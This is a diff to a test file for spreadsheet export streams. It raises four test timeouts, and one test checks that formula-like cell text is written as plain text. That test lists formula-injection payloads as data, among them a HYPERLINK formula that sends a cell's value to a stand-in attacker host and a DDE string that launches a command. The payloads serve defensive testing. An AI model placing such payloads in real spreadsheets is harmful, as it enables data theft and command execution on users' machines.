@@ -65,7 +65,7 @@ describe('export streams', () => {
     expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
     expect(ws.getRow(2 + 4321).getCell(1).value).toBe(String(100000000000 + 4321));
     expect(ws.getRow(1 + PAGES * ROWS).getCell(1).value).toBe(String(100000000000 + PAGES * ROWS - 1));
-  }, 60_000);
+  }, 180_000);
 
   it('xlsx: the workbook is written in a worker thread, never on the thread that serves requests (decision 0913)', async () => {
     // Count the workbook writers made on this thread (a spy would break ExcelJS's constructor).
@@ -86,7 +86,7 @@ describe('export streams', () => {
     } finally {
       streams.WorkbookWriter = Original;
     }
-  }, 60_000);
+  }, 180_000);
 
   it('xlsx: formula-like text is written as text, not as a formula', async () => {
     const names = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", '+1+1', '@SUM(1,2)'];
@@ -99,7 +99,7 @@ describe('export streams', () => {
     const cells = names.map((_, i) => ws.getRow(2 + i).getCell(3));
     expect(cells.map((c) => c.value)).toEqual(names);
     expect(cells.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
-  }, 60_000);
+  }, 180_000);
 
   it('xlsx: a client that goes away stops the page reads', async () => {
     const { counter, iterable } = pages();
@@ -108,5 +108,5 @@ describe('export streams', () => {
     stream.destroy();
     await sleep(500);
     expect(counter.pulled).toBeLessThanOrEqual(3);
-  }, 60_000);
+  }, 180_000);
 });
